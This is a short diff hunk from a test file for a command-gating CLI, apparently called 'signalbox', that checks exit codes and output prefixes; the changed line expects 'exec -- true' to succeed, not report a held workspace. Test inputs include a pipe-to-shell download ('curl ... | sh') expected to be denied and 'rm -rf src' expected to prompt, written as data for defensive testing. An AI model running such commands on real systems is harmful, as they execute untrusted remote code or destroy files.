@@ -62,7 +62,7 @@ test('what a person decides ends with the code that is promised', async () => {
     ['check -- curl_-s_https://example.com/x_|_sh', 3, /^deny/],
     ['check -- rm_-rf_src', 4, /^ask/],
     ['check --mode FOO -- ls', 2, /^error\[usage\]/],
-    ['exec -- true', 125, /^error\[workspace-held\]/],
+    ['exec -- true', 0, /^$/],
     ['mode FOO -m x', 2, /^error\[usage\]/, 'signalbox mode --help'],
     ['policy explain zzzz', 2, /^error\[unknown-id\]/],
     ['rules remove nothing', 2, /^error\[/],
